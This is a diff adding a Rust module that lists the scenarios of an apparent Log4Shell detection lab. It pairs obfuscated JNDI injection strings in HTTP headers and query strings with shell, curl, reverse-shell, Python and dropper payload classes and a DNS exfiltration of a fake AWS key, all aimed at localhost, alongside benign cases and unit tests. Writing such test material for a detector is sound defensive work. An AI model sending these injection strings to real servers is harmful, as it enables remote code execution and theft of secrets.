@@ -1,0 +1,419 @@
+//! The lab's scenarios, as plain data: what each one sends or runs, and what it must prove.
+//! Nothing here touches a process or the network.
+
+use std::fmt;
+
+/// The fake AWS access key id in the vulnerable app's environment (`SECRET`), which the
+/// DNS-exfiltration scenario steals.
+pub const SECRET: &str = "AKIALABFAKEKEY000001";
+
+/// The lab servers' ports (tests/lab/java/servers/LabServers.java, RogueRmiRegistry.java).
+pub const LDAP_PORT: u16 = 1389;
+pub const LDAP_ODD_PORT: u16 = 10389;
+pub const RMI_PORT: u16 = 1099;
+pub const CLASS_PORT: u16 = 8180;
+pub const DNS_PORT: u16 = 5353;
+pub const REVSHELL_PORT: u16 = 4444;
+pub const WEB_PORT: u16 = 8280;
+
+/// The canary file a payload writes in the vulnerable app's working directory.
+pub const CANARY: &str = "pwned";
+
+// The rule names of the interface contract (/work/shared/CONTRACT.md).
+pub const JNDI_PROBE: &str = "jndi_probe";
+pub const LDAP_EGRESS: &str = "jvm_ldap_egress";
+pub const RMI_EGRESS: &str = "jvm_rmi_egress";
+pub const DNS_EXFIL: &str = "jvm_dns_exfil";
+pub const CLASS_DOWNLOAD: &str = "jvm_class_download";
+pub const SHELL_SPAWN: &str = "jvm_shell_spawn";
+pub const EXPLOIT_CHAIN: &str = "exploit_chain";
+
+/// Rules of issue 4 that the detector may not raise yet. Without `--strict` their absence is
+/// reported as MISSING but does not fail the lab; every other obligation always does.
+/// Empty this list once they have landed.
+pub const PENDING_RULES: [&str; 3] = [JNDI_PROBE, CLASS_DOWNLOAD, EXPLOIT_CHAIN];
+
+/// How a rule is written in the table.
+pub fn short_rule(rule: &str) -> &str {
+    match rule {
+        LDAP_EGRESS => "ldap",
+        RMI_EGRESS => "rmi",
+        DNS_EXFIL => "dns",
+        CLASS_DOWNLOAD => "class",
+        SHELL_SPAWN => "shell",
+        EXPLOIT_CHAIN => "chain",
+        other => other,
+    }
+}
+
+/// Whether the detector runs, and how.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Mode {
+    /// No detector: proves the attacks work.
+    None,
+    Monitor,
+    Enforce,
+}
+
+impl Mode {
+    pub const ALL: [Mode; 3] = [Mode::None, Mode::Monitor, Mode::Enforce];
+
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Mode::None => "none",
+            Mode::Monitor => "monitor",
+            Mode::Enforce => "enforce",
+        }
+    }
+}
+
+impl fmt::Display for Mode {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// One row of the table.
+#[derive(Debug)]
+pub struct Scenario {
+    /// Unique, for `--scenario`, the cgroup and the run directory.
+    pub name: &'static str,
+    /// What it does, for the table (short).
+    pub what: &'static str,
+    pub kind: Kind,
+}
+
+#[derive(Debug)]
+pub enum Kind {
+    Attack(Attack),
+    Benign(Benign),
+}
+
+/// An HTTP request to the vulnerable app whose logging performs a JNDI lookup.
+#[derive(Debug)]
+pub struct Attack {
+    /// Request target (path and query), sent as is.
+    pub target: &'static str,
+    /// A header carrying the payload, if the target does not.
+    pub header: Option<(&'static str, &'static str)>,
+    pub lookup: Lookup,
+    /// The class the rogue server hands out; `None` when the lookup itself is the attack.
+    pub payload: Option<Payload>,
+}
+
+/// Where the JNDI lookup goes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Lookup {
+    Ldap { port: u16 },
+    Rmi,
+    Dns,
+}
+
+impl Lookup {
+    /// The lab server that answers the lookup, as named in its event lines.
+    pub fn server(self) -> String {
+        match self {
+            Lookup::Ldap { port } => format!("ldap:{port}"),
+            Lookup::Rmi => format!("rmi:{RMI_PORT}"),
+            Lookup::Dns => format!("dns:{DNS_PORT}"),
+        }
+    }
+
+    /// The event that proves the lookup reached that server: a TCP accept, or a DNS query.
+    pub fn contact_kind(self) -> &'static str {
+        match self {
+            Lookup::Ldap { .. } | Lookup::Rmi => "accept",
+            Lookup::Dns => "query",
+        }
+    }
+
+    /// The egress rule the lookup raises.
+    pub fn rule(self) -> &'static str {
+        match self {
+            Lookup::Ldap { .. } => LDAP_EGRESS,
+            Lookup::Rmi => RMI_EGRESS,
+            Lookup::Dns => DNS_EXFIL,
+        }
+    }
+}
+
+/// The payload classes in tests/lab/java/payload/.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Payload {
+    Shell,
+    Curl,
+    ReverseShell,
+    Python,
+    Dropper,
+}
+
+impl Payload {
+    pub fn class(self) -> &'static str {
+        match self {
+            Payload::Shell => "LabShell",
+            Payload::Curl => "LabCurl",
+            Payload::ReverseShell => "LabReverseShell",
+            Payload::Python => "LabPython",
+            Payload::Dropper => "LabDropper",
+        }
+    }
+}
+
+impl Attack {
+    /// The rules monitor mode must raise, in the order of the attack.
+    pub fn expected_rules(&self) -> Vec<&'static str> {
+        let mut rules = vec![JNDI_PROBE, self.lookup.rule()];
+        if self.payload.is_some() {
+            rules.extend([CLASS_DOWNLOAD, SHELL_SPAWN]);
+        }
+        rules.push(EXPLOIT_CHAIN);
+        rules
+    }
+}
+
+/// Ordinary programs in the victim's cgroup that must not raise anything high or critical.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Benign {
+    /// `LabHttpClient`: a JVM doing `GET http://127.0.0.1:8280/`.
+    HttpClient,
+    /// `LabDirectoryClient`: a JVM binding to and searching the allowlisted directory.
+    Directory,
+    /// `javac` compiling a file.
+    Javac,
+    /// `LabHelperRunner`: a JVM running its allowlisted `/bin/sh` helper.
+    Helper,
+    /// `ldap_and_shell.py`: python (no JVM) doing LDAP and running sh.
+    PythonLdapShell,
+}
+
+pub static SCENARIOS: &[Scenario] = &[
+    Scenario {
+        name: "ldap-shell",
+        what: "User-Agent ${jndi:ldap://…:1389/…} → sh -c",
+        kind: Kind::Attack(Attack {
+            target: "/",
+            header: Some(("User-Agent", "${jndi:ldap://127.0.0.1:1389/LabShell}")),
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::Shell),
+        }),
+    },
+    Scenario {
+        name: "ldap-curl",
+        what: "${${lower:j}ndi:${lower:l}dap:…} → curl",
+        kind: Kind::Attack(Attack {
+            target: "/api/items",
+            header: Some((
+                "X-Api-Version",
+                "${${lower:j}ndi:${lower:l}dap://127.0.0.1:1389/LabCurl}",
+            )),
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::Curl),
+        }),
+    },
+    Scenario {
+        name: "ldap-revshell",
+        what: "${${::-j}${::-n}${::-d}${::-i}:ldap…} → bash reverse shell",
+        kind: Kind::Attack(Attack {
+            target: "/login",
+            header: Some((
+                "User-Agent",
+                "${${::-j}${::-n}${::-d}${::-i}:ldap://127.0.0.1:1389/LabReverseShell}",
+            )),
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::ReverseShell),
+        }),
+    },
+    Scenario {
+        name: "ldap-python",
+        what: "URL-encoded in the query string → python3 -c",
+        kind: Kind::Attack(Attack {
+            target: "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F127.0.0.1%3A1389%2FLabPython%7D",
+            header: None,
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::Python),
+        }),
+    },
+    Scenario {
+        name: "ldap-dropper",
+        what: "Referer ${jNdI:ldap:…} → binary dropped in /tmp",
+        kind: Kind::Attack(Attack {
+            target: "/",
+            header: Some(("Referer", "${jNdI:ldap://127.0.0.1:1389/LabDropper}")),
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::Dropper),
+        }),
+    },
+    Scenario {
+        name: "ldap-odd-port",
+        what: "${${env:NaN:-j}ndi:ldap://…:10389/…} → sh -c",
+        kind: Kind::Attack(Attack {
+            target: "/",
+            header: Some((
+                "X-Forwarded-For",
+                "${${env:NaN:-j}ndi:ldap://127.0.0.1:10389/LabShell}",
+            )),
+            lookup: Lookup::Ldap {
+                port: LDAP_ODD_PORT,
+            },
+            payload: Some(Payload::Shell),
+        }),
+    },
+    Scenario {
+        name: "rmi-shell",
+        what: "${jndi:rmi://…:1099/…} (RMI registry) → sh -c",
+        kind: Kind::Attack(Attack {
+            target: "/",
+            header: Some(("User-Agent", "${jndi:rmi://127.0.0.1:1099/LabShell}")),
+            lookup: Lookup::Rmi,
+            payload: Some(Payload::Shell),
+        }),
+    },
+    Scenario {
+        name: "dns-exfil",
+        what: "${jndi:dns://…:5353/${env:SECRET}.exfil.lab}",
+        kind: Kind::Attack(Attack {
+            target: "/",
+            header: Some((
+                "User-Agent",
+                "${jndi:dns://127.0.0.1:5353/${env:SECRET}.exfil.lab}",
+            )),
+            lookup: Lookup::Dns,
+            payload: None,
+        }),
+    },
+    Scenario {
+        name: "benign-http-client",
+        what: "JVM: GET to a local web service (allowlisted)",
+        kind: Kind::Benign(Benign::HttpClient),
+    },
+    Scenario {
+        name: "benign-directory",
+        what: "JVM: LDAP bind+search, allowlisted directory",
+        kind: Kind::Benign(Benign::Directory),
+    },
+    Scenario {
+        name: "benign-javac",
+        what: "javac compiles a file",
+        kind: Kind::Benign(Benign::Javac),
+    },
+    Scenario {
+        name: "benign-helper",
+        what: "JVM runs its allowlisted /bin/sh helper",
+        kind: Kind::Benign(Benign::Helper),
+    },
+    Scenario {
+        name: "benign-python",
+        what: "python (no JVM): LDAP bind+search, then sh",
+        kind: Kind::Benign(Benign::PythonLdapShell),
+    },
+];
+
+/// The scenario called `name`.
+pub fn find(name: &str) -> Option<&'static Scenario> {
+    SCENARIOS.iter().find(|s| s.name == name)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_are_unique_and_cgroup_safe() {
+        for (i, a) in SCENARIOS.iter().enumerate() {
+            assert!(
+                a.name
+                    .chars()
+                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
+                "{}",
+                a.name
+            );
+            assert!(SCENARIOS[i + 1..].iter().all(|b| b.name != a.name));
+        }
+        assert!(find("ldap-shell").is_some());
+        assert!(find("nope").is_none());
+    }
+
+    #[test]
+    fn every_payload_and_lookup_is_exercised() {
+        let attacks: Vec<&Attack> = SCENARIOS
+            .iter()
+            .filter_map(|s| match &s.kind {
+                Kind::Attack(a) => Some(a),
+                Kind::Benign(_) => None,
+            })
+            .collect();
+        for payload in [
+            Payload::Shell,
+            Payload::Curl,
+            Payload::ReverseShell,
+            Payload::Python,
+            Payload::Dropper,
+        ] {
+            assert!(
+                attacks.iter().any(|a| a.payload == Some(payload)),
+                "{payload:?}"
+            );
+        }
+        for lookup in [
+            Lookup::Ldap { port: LDAP_PORT },
+            Lookup::Ldap {
+                port: LDAP_ODD_PORT,
+            },
+            Lookup::Rmi,
+            Lookup::Dns,
+        ] {
+            assert!(attacks.iter().any(|a| a.lookup == lookup), "{lookup:?}");
+        }
+    }
+
+    #[test]
+    fn every_attack_names_its_payload_class_and_port() {
+        for scenario in SCENARIOS {
+            let Kind::Attack(attack) = &scenario.kind else {
+                continue;
+            };
+            let text = match attack.header {
+                Some((_, value)) => value.to_owned(),
+                None => attack.target.replace("%3A", ":").replace("%2F", "/"),
+            };
+            if let Some(payload) = attack.payload {
+                assert!(text.contains(payload.class()), "{}", scenario.name);
+            }
+            let port = match attack.lookup {
+                Lookup::Ldap { port } => port,
+                Lookup::Rmi => RMI_PORT,
+                Lookup::Dns => DNS_PORT,
+            };
+            assert!(text.contains(&format!(":{port}/")), "{}", scenario.name);
+        }
+    }
+
+    #[test]
+    fn expected_rules_follow_the_attack() {
+        let ldap = Attack {
+            target: "/",
+            header: None,
+            lookup: Lookup::Ldap { port: LDAP_PORT },
+            payload: Some(Payload::Shell),
+        };
+        assert_eq!(
+            ldap.expected_rules(),
+            [
+                JNDI_PROBE,
+                LDAP_EGRESS,
+                CLASS_DOWNLOAD,
+                SHELL_SPAWN,
+                EXPLOIT_CHAIN
+            ]
+        );
+        let dns = Attack {
+            target: "/",
+            header: None,
+            lookup: Lookup::Dns,
+            payload: None,
+        };
+        assert_eq!(dns.expected_rules(), [JNDI_PROBE, DNS_EXFIL, EXPLOIT_CHAIN]);
+        let short: Vec<&str> = ldap.expected_rules().into_iter().map(short_rule).collect();
+        assert_eq!(short, ["jndi_probe", "ldap", "class", "shell", "chain"]);
+    }
+}
